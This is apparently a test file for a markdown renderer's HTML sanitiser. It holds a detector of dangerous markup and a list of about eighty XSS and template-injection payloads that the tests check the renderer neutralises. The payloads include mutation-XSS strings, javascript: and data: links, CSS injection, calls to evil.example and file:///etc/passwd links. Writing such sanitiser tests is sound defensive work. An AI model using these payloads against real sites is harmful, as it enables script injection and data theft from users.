import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { fromHtml } from 'hast-util-from-html';
import type { Nodes } from 'hast';
import { renderMarkdown, variablesFrom } from './index.ts';

/** Reads the HTML as a browser does, and says what in it could run or reach outside. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  if (/[{}]/.test(html)) dangers.push('brace');
  const pending: Nodes[] = [fromHtml(html, { fragment: true })];
  for (let node = pending.pop(); node !== undefined; node = pending.pop()) {
    if ('children' in node) pending.push(...node.children);
    if (node.type === 'comment') dangers.push('comment');
    if (node.type !== 'element') continue;
    if (
      /^(?:script|style|iframe|object|embed|svg|base|meta|link|form|button|textarea|select|template|video|audio|noscript|slot|component|markdown)$/i.test(
        node.tagName,
      )
    )
      dangers.push(node.tagName);
    for (const [name, value] of Object.entries(node.properties)) {
      const text = String(value);
      if (/^(?:on|v-|:|@|#|srcdoc|form|action|is$|ref$|key$|xlink)/i.test(name)) dangers.push(name);
      if (name === 'style' && /url|expression|position|@|\\|behavior|binding/i.test(text)) dangers.push(text);
      if (
        /^(?:href|src)$/.test(name) &&
        /^[\s\p{Cc}]*(?:javascript|vbscript|file|blob|data:(?!image\/(?:png|jpeg|gif|webp|avif|bmp);base64))/iu.test(
          text,
        )
      )
        dangers.push(`${name}=${text}`);
    }
  }
  return dangers;
}

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR = "alert(1)">',
  '<body onload=alert(1)>',
  '<b onmouseover="alert(1)">x</b>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![x](file:///etc/passwd)',
  '![x](https://evil.example/pixel.png)',
  '![x](//evil.example/pixel.png)',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="position:fixed;inset:0;color:red">x</p>',
  '<p style="content: element(header); position: running(header)">x</p>',
  String.raw`<p style="col\6fr: red; background: u\72l(x)">x</p>`,
  '{{ constructor.constructor("alert(1)")() }}',
  '{{ $el.ownerDocument.defaultView.alert(1) }}',
  '`{{ x }}` and **{{ x }}**',
  '```\n{{ constructor }}\n```',
  '$$\n{{x}}\n$$',
  '&#123;&#123; x }}',
  '&lbrace;&lbrace; x &rbrace;&rbrace;',
  '[x]({{x}}) ![{{x}}](/a.png "{{x}}")',
  '<b title="{{ x }}" id="{{ x }}" class="{{ x }}">x</b>',
  '<div v-html="x" v-if="constructor" :is="x" @click="x" #default="x" v-bind:a="b" ref="x" is="vue:script">x</div>',
  '<component :is="script">x</component>',
  '<markdown text="x"/>',
  '**x**{onclick="alert(1)" v-html="x" style="position:fixed" href="javascript:alert(1)" src="x"}',
  '[x](/y){href="javascript:alert(1)" target="_self"}',
  '![x](/y){src="https://evil.example/x.png" srcset="//evil.example/x 2x"}',
  '# x {onclick="alert(1)" :style="x"}',
  '```js {onclick="x" style="position:fixed"}\nx\n```',
  '```js highlight-manual\n§<img src=x onerror=alert(1)>§x§</img>§ §<script>§y§</script>§\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```mermaid caption="<img src=x onerror=alert(1)>"\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  String.raw`$\href{javascript:alert(1)}{x}$ $\htmlData{a=b}{x}$ $\includegraphics{https://evil.example/x}$`,
  String.raw`$\text{<script>alert(1)</script>}$`,
  '^[<script>alert(1)</script>]',
  '![<img src=x onerror=alert(1)>](/x.png)',
  '| <script>x</script> |\n|---|\n| <img src=x onerror=x> |\n\n: <svg onload=x>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '<a id="document" name="body">x</a><input type="image" src=x formaction=javascript:x><button formaction=x>',
  '</div></template></body></html><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>x',
  '<a href="x" ping="//evil.example" download attributionsrc>x</a>',
];

test('the dangers are seen when they are there', () => {
  const seen = ATTACKS.filter(attack => dangersIn(attack).length > 0);
  assert.ok(seen.length > 45, `${seen.length} of ${ATTACKS.length}`);
});

test('nothing that a tester pastes can run', () => {
  for (const attack of ATTACKS) {
    for (const text of [
      attack,
      `before ${attack} after`,
      `> ${attack}`,
      `- ${attack}`,
      `<div>\n${attack}\n</div>`,
    ])
      assert.deepEqual(dangersIn(renderMarkdown(text).html), [], text);
  }
});

test('a remote picture is left out and reported, unless it is wanted', () => {
  const { html, messages } = renderMarkdown('![plan](https://evil.example/p.png)');
  assert.doesNotMatch(html, /evil/);
  assert.deepEqual(
    messages.map(({ code }) => code),
    ['image-remote'],
  );
  assert.match(
    renderMarkdown('![p](https://a.example/p.png)', { hasRemoteImages: true }).html,
    /<img src="https:/,
  );
});

test('a variable gives own data as text and nothing else', () => {
  const resolveVariable = variablesFrom({ report: { title: '<b>{{ x }}</b>', list: ['a', 'b'] } });
  const shown = (text: string): string => renderMarkdown(text, { resolveVariable }).html;
  assert.match(shown('{{ report.title }}'), /&#x3C;b>&#x7B;&#x7B; x &#x7D;&#x7D;&#x3C;\/b>/);
  assert.match(shown('{{ report.list }}'), />a, b</);
  for (const path of [
    'constructor',
    '__proto__',
    'report.constructor',
    'report.title.length',
    'report.title()',
    'a b',
  ])
    assert.equal(
      renderMarkdown(`{{ ${path} }}`, { resolveVariable }).messages[0]?.code,
      'variable-unknown',
      path,
    );
});

const fragment = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc.constantFrom(
    '{{',
    '}}',
    '^[',
    ']',
    '![',
    '](',
    ')',
    '$',
    '$$',
    '`',
    '```',
    '§§',
    '|',
    '\n',
    '\n\n',
    '> ',
    '- ',
    '<',
    '>',
  ),
  fc.constantFrom(
    '{#a}',
    '{.b k="v"}',
    '<div',
    ' onclick=x',
    '"',
    "'",
    '/>',
    '<!--',
    '-->',
    '&lt;',
    '&#60;',
    '\\',
    '\u0000',
  ),
  fc.string({ maxLength: 20, unit: 'grapheme' }),
);

test('property: any mixture of fragments stays harmless and is never refused with an exception', () => {
  fc.assert(
    fc.property(fc.array(fragment, { maxLength: 25 }), fragments => {
      assert.deepEqual(dangersIn(renderMarkdown(fragments.join('')).html), []);
    }),
    { numRuns: 500 },
  );
});

test('texts made to cost much end, and what cannot be read is shown as it is', () => {
  const costly = [
    '^[',
    '[',
    '![',
    '*a ',
    '**a',
    '`',
    '<',
    '{',
    '{{',
    '$',
    '> ',
    '- ',
    '(',
    '&',
    '_a_',
    '|',
    '\\',
    '~',
    '{a="',
  ];
  for (const piece of costly) {
    const { html } = renderMarkdown(piece.repeat(2000));
    assert.deepEqual(dangersIn(html), [], piece);
  }
  const deep = renderMarkdown(`${'> '.repeat(1000)}x`);
  assert.equal(deep.messages[0]?.code, 'text-too-deep');
  assert.match(deep.html, /^<pre/);
  for (const tag of ['<b>', '<div>\n\n', '<pagebreak>', '<ref to="x">', '<markdown>']) {
    const nested = renderMarkdown(tag.repeat(30_000));
    assert.equal(nested.messages[0]?.code, 'text-too-deep', tag);
    assert.match(nested.html, /^<pre/);
  }
  assert.equal(renderMarkdown('*_'.repeat(50_000)).messages[0]?.code, 'text-too-tangled');
  assert.deepEqual(renderMarkdown(`\`\`\`\n${'*_\n'.repeat(20_000)}\`\`\``).messages, []);
  assert.deepEqual(renderMarkdown('- x\n'.repeat(20_000)).messages, []);
  assert.equal(renderMarkdown('x'.repeat(20), { maxLength: 10 }).messages[0]?.code, 'text-too-long');
});
